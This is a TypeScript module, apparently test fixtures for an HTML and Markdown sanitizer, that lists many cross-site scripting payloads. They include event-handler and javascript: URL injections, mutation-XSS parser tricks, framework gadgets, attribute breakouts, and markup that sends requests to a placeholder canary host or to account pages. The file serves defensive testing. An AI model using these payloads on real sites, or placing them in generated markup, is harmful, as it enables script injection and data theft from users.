/**
 * Markup that tries to run script where it is shown. Every payload calls `alert`, which `watchFor` replaces in every
 * frame of a browser, or asks `CANARY/…` for something; `armed` puts the URLs in.
 *
 * - `live`: fires in a page without any defence, as it is or when everything in it is clicked, pointed at and focused. A
 *   test holds that it does: a payload that never fires would prove nothing.
 * - `mutating`: harmless as parsed, and dangerous once it is serialized and parsed again, or under another parser's rules.
 * - `request`: sends a request, or navigates.
 */
export interface Payload {
  name: string
  kind: 'live' | 'mutating' | 'request'
  html: string
}

const live = (entries: Readonly<Record<string, string>>): Payload[] =>
  Object.entries(entries).map(([name, html]) => ({name, kind: 'live', html}))

const mutating = (entries: Readonly<Record<string, string>>): Payload[] =>
  Object.entries(entries).map(([name, html]) => ({name, kind: 'mutating', html}))

const request = (entries: Readonly<Record<string, string>>): Payload[] =>
  Object.entries(entries).map(([name, html]) => ({name, kind: 'request', html}))

const ELEMENTS = live({
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<ScRiPt >alert(1)</sCrIpT >',
  'a module': '<script type="module">alert(1)</script>',
  'a script of an SVG': '<svg><script>alert(1)</script></svg>',
  'a script of an SVG by href': '<svg><script href="data:text/javascript,alert(1)"></script></svg>',
  'a script by a data: URL': '<script src="data:text/javascript,alert(1)"></script>',
  'an image that fails': '<img src=x onerror=alert(1)>',
  'an image tag under its old name': '<image src=x onerror=alert(1)>',
  'attributes without spaces': '<img/src="x"/onerror="alert(1)">',
  'an attribute after a form feed': '<img\fsrc=x\fonerror=alert(1)>',
  'an encoded handler': '<img src=x onerror="&#97;&#x6c;ert&lpar;1&rpar;">',
  'a source that fails': '<video><source onerror=alert(1) src=x></video>',
  'an audio that fails': '<audio src=x onerror=alert(1)></audio>',
  'a link that loads': '<link rel=stylesheet href="data:text/css,p{}" onload=alert(1)>',
  'a style that loads': '<style onload=alert(1)>p {}</style>',
  'a body that loads': '<body onload=alert(1)>',
  'an SVG that loads': '<svg onload=alert(1)></svg>',
  'details that open': '<details ontoggle=alert(1)><summary>a</summary>b</details>',
  'a field with the focus': '<input onfocus=alert(1) autofocus>',
  'a text that can be focused': '<p tabindex=0 onfocus=alert(1)>a</p>',
  'an editable text': '<p contenteditable onfocus=alert(1)>a</p>',
  'a pointer over it': '<b onpointerover=alert(1) onmouseover=alert(1)>a</b>',
  'a click': '<b onclick=alert(1)>a</b>',
  'a custom element': '<x-a onclick=alert(1)>a</x-a>',
  'an animation that begins':
    '<style>@keyframes k { to { left: 0 } } b { animation: k 1s }</style><b onanimationstart=alert(1)>a</b>',
  'a transition that ends':
    '<style>b { transition: color .01s } b:focus { color: red }</style><b tabindex=0 ontransitionend=alert(1)>a</b>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a comment that ends with a bang': '<!-- --!><img src=x onerror=alert(1)>',
  'a processing instruction': '<?php echo "><img src=x onerror=alert(1)>"?>',
  'a CDATA section of HTML': '<![CDATA[><img src=x onerror=alert(1)>]]>',
  'a style that is left': '<style></style ><img src=x onerror=alert(1)></style>',
  'a title that is left': '<title></title><img src=x onerror=alert(1)></title>',
  'a textarea that is left': '<textarea></textarea><img src=x onerror=alert(1)>',
  'a select that is left': '<select><option></select><img src=x onerror=alert(1)></option>',
  'a table that moves its content out': '<table><tr><img src=x onerror=alert(1)></table>'
})

const URLS = live({
  'a javascript: link': '<a href="javascript:alert(1)">a</a>',
  'a javascript: link with a tab': '<a href="java\tscript:alert(1)">a</a>',
  'a javascript: link with line feeds': '<a href="java\n\nscript&colon;alert(1)">a</a>',
  'a javascript: link after controls': '<a href="\u0001 \u001fjavascript:alert(1)">a</a>',
  'a javascript: link in entities':
    '<a href="&#106;&#97;&#118;&#97;&Tab;&NewLine;script&colon;alert&lpar;1&rpar;">a</a>',
  'a javascript: link in capitals': '<a href="JaVaScRiPt:alert(1)">a</a>',
  'a javascript: link with a comment': '<a href="javascript://%0aalert(1)">a</a>',
  'an area': '<map name=m><area shape=default href="javascript:alert(1)"></map>',
  'a link of an SVG': '<svg><a href="javascript:alert(1)"><text y=9>a</text></a></svg>',
  'a link of an SVG by XLink': '<svg><a xlink:href="javascript:alert(1)"><text y=9>a</text></a></svg>',
  'a link that SMIL sets':
    '<svg><a><set attributeName=href to="javascript:alert(1)"></set><text y=9>a</text></a></svg>',
  'a link that SMIL animates':
    '<svg><a href="#"><animate attributeName=href values="javascript:alert(1)" fill=freeze dur=".01s"></animate><text y=9>a</text></a></svg>',
  'an event of SMIL': '<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>',
  'a form': '<form action="javascript:alert(1)"><button>a</button></form>',
  'a button of a form': '<form><button formaction="javascript:alert(1)">a</button></form>',
  'a field of a form': '<form id=f></form><input form=f type=submit formaction="javascript:alert(1)">',
  'a frame with a javascript: URL': '<iframe src="javascript:alert(1)"></iframe>',
  'a frame with its own document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a frame with an encoded document':
    '<iframe srcdoc="&lt;img src=x onerror=&quot;parent.alert(1)&quot;&gt;"></iframe>',
  'a frame with a data: URL': '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  'a sandbox of the page’s own':
    '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'an object with a data: URL': '<object data="data:text/html,<script>alert(1)</script>"></object>',
  'an embed with a data: URL': '<embed src="data:text/html,<script>alert(1)</script>">'
})

/** The techniques of mutation XSS: namespaces that change, raw text, and content that moves when it is parsed again. */
const MUTATIONS = mutating({
  'MathML and a form in a form':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  'MathML, a table and a style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  'MathML and a style with an attribute':
    '<math><mtext><mglyph><style><img title="</style><img src=x onerror=alert(1)>"></style></mglyph></mtext></math>',
  'SVG, a style and a comment': '<svg><style><!--</style><img title="--><img src=x onerror=alert(1)>"></svg>',
  'SVG, a p and a style': '<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></style></svg>',
  'SVG and desc with a noscript':
    '<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>"></desc></svg>',
  'SVG, foreignObject and MathML':
    '<svg><foreignObject><math><mi><svg><style><p title="</style><img src=x onerror=alert(1)>"></svg></foreignObject></svg>',
  'annotation-xml as HTML':
    '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=alert(1)>"></style></annotation-xml></math>',
  'annotation-xml as anything':
    '<math><annotation-xml encoding="x"><svg><title><a title="</title><img src=x onerror=alert(1)>">',
  'a noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a noembed': '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  'an xmp': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'an iframe’s text': '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  'a plaintext': '<plaintext><p title="</plaintext><img src=x onerror=alert(1)>">',
  'a template in a template':
    '<template><s><template><s><img src=x onerror=alert(1)></s></template></s></template>',
  'a declarative shadow root':
    '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  'a select with a template':
    '<select><template><style></template></select><img title="</style><img src=x onerror=alert(1)>">',
  'a comment in a title of an SVG': '<svg><title><!--</title><p id="--><img src=x onerror=alert(1)>"></svg>',
  'a CDATA section of an SVG': '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  'backticks as quotes': '<img alt="``onerror=alert(1)">',
  'elements inside each other, too deep': `${'<b>'.repeat(520)}<style><img title="</style><img src=x onerror=alert(1)>">`,
  'a nested form': '<form><div></form><form id=x><img src=x title="</form><img src=x onerror=alert(1)>">',
  'names of the DOM':
    '<form name=attributes><input name=attributes><input name=nodeName onfocus=alert(1)></form>',
  'names of the document':
    '<img name=body><img name=getElementById><a id=defaultView href="x:alert(1)"></a><form id=x><output name=innerHTML></form>',
  'U+2028 and U+2029 in a handler': '<p title="\u2028<img src=x onerror=alert(1)>\u2029">a</p>',
  'angle brackets in an attribute': '<p title="</p><img src=x onerror=alert(1)>">a</p>'
})

/** What the libraries that the Studio is made of would act on. */
const GADGETS = mutating({
  'a listener of Qwik': '<button on:click="data:text/javascript,export const a=()=>alert(1)#a">a</button>',
  'a listener of Qwik for the document':
    '<div on-document:qinit="/preview/react.js#a" on-window:load="CANARY/qwik.js#a" on:qvisible="CANARY/qwik.js#a">a</div>',
  'a container of Qwik':
    '<div q:container="paused" q:base="CANARY/" q:render="static"><script type="qwik/json">{"refs":{},"ctx":{},"objs":[],"subs":[]}</script></div>',
  'a prefetch of Qwik': '<script type="application/json" q:type="prefetch-bundles">["CANARY/"]</script>',
  'expressions of templates':
    '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %> #{alert(1)}',
  'braces of JSX': '<p>{alert(1)}</p><p title={alert(1)}>a</p>',
  'names that print as JSX': '<x-a{...alert(1)}></x-a><p {...{onClick:alert(1)}}>a</p>',
  'data that scripts read': '<div data-qrl="CANARY/qwik.js#a" data-on-click="alert(1)">a</div>',
  'an import map': '<script type="importmap">{"imports":{"/build/":"CANARY/"}}</script>',
  'rules for speculation':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["CANARY/speculation"]}]}</script>'
})

const REQUESTS = request({
  'a refresh': '<meta http-equiv=refresh content="0;url=CANARY/refresh">',
  'a refresh to script': '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  'a refresh to data': '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
  'a base': '<base href="CANARY/"><script src="base.js"></script>',
  'a base with a target': '<base target=_top><a href="CANARY/base-target">a</a>',
  'a link to the top': '<a href="CANARY/top" target=_top>a</a>',
  'a link to the parent': '<a href="CANARY/parent" target=_parent>a</a>',
  'a link that tells': '<a href="#" ping="CANARY/ping">a</a>',
  'a form to elsewhere': '<form action="CANARY/form" method=post target=_top><button>a</button></form>',
  'a form to the account': '<form action="HOME/auth/log-out" method=post><button>a</button></form>',
  'an image of the account': '<img src="HOME/account/me"><img src="/account/keys">',
  'a frame of the account': '<iframe src="HOME/account/me"></iframe><iframe src="HOME/dashboard/"></iframe>',
  'an object of the account': '<object data="HOME/account/me"></object><embed src="HOME/studio/">',
  'a sheet of the account':
    '<link rel=stylesheet href="HOME/account/me"><style>@import "HOME/account/keys";</style>',
  'a script of the account': '<script src="HOME/account/me"></script>',
  'a sheet from elsewhere':
    '<link rel=stylesheet href="CANARY/sheet.css"><style>@import "CANARY/import.css";</style>',
  'a sheet that was preloaded':
    '<link rel=preload as=script href="CANARY/preload.js"><link rel=modulepreload href="CANARY/module.js"><link rel=prefetch href="CANARY/prefetch">',
  'a prefetch of the account':
    '<link rel=prefetch href="HOME/account/me"><link rel=prerender href="HOME/studio/">',
  'a manifest': '<link rel=manifest href="CANARY/manifest.json">',
  'a frame from elsewhere': '<iframe src="CANARY/frame"></iframe>',
  'a policy of its own':
    '<meta http-equiv=Content-Security-Policy content="script-src * \'unsafe-inline\'"><script>alert(1)</script>',
  'a sheet that breaks out': '<style>p { content: "</STYLE><img src=x onerror=alert(1)>" }</style>',
  'an external entity of an SVG':
    '<svg><use href="CANARY/use.svg#a"></use><use href="data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#a"></use></svg>'
})

export const PAYLOADS: readonly Payload[] = [...ELEMENTS, ...URLS, ...MUTATIONS, ...GADGETS, ...REQUESTS]

/** The same aims in Markdown, as a language model would write them. */
export const MARKDOWN: readonly string[] = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java&Tab;script&colon;alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](vbscript:alert(1) "title\\" onmouseover=alert(1) x=\\"")',
  '[a][b]\n\n[b]: javascript:alert(1) "a"',
  '<javascript:alert(1)>',
  '![a](x" onerror="alert(1))',
  '![a](CANARY/markdown-image.png)',
  '![a][i]\n\n[i]: CANARY/markdown-reference.png',
  '[![a](CANARY/inside.png)](javascript:alert(1))',
  '# <img src=x onerror=alert(1)>',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `</code><img src=x onerror=alert(1)>` |',
  '- [ ] <img src=x onerror=alert(1)>',
  '> <svg/onload=alert(1)>',
  '```"><img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```',
  '    </code></pre><img src=x onerror=alert(1)>',
  '`` `</code><img src=x onerror=alert(1)>` ``',
  '<details ontoggle=alert(1) open>\n\n**a**\n\n</details>',
  'a<!-- --!><img src=x onerror=alert(1)>-->b',
  '<style>@import "CANARY/markdown.css";</style>\n\n<p style="background: url(CANARY/markdown-style.png)">a</p>',
  'https://example.com/"onmouseover="alert(1)',
  '[a](https://example.com/%22onmouseover=%22alert(1))'
]

/** Values that end the attribute, element, string or rule that holds them. */
export const BREAKOUTS: readonly string[] = [
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '</title><img src=x onerror=alert(1)>',
  '</style><img src=x onerror=alert(1)>',
  '</STYLE\t><img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '--><img src=x onerror=alert(1)>',
  '</textarea><img src=x onerror=alert(1)>',
  '</svg><img src=x onerror=alert(1)>',
  '" autofocus onfocus="alert(1)" x="',
  '`${alert(1)}`',
  '{alert(1)}',
  'javascript:alert(1)',
  'url(CANARY/breakout.png)',
  '&lt;img src=x onerror=alert(1)&gt;'
]

/** A text with the URLs of this run in the places that are kept for them. */
export const armed = (text: string, hostUrls: {canary: string; home: string}): string =>
  text.replaceAll('CANARY', hostUrls.canary).replaceAll('HOME', hostUrls.home)
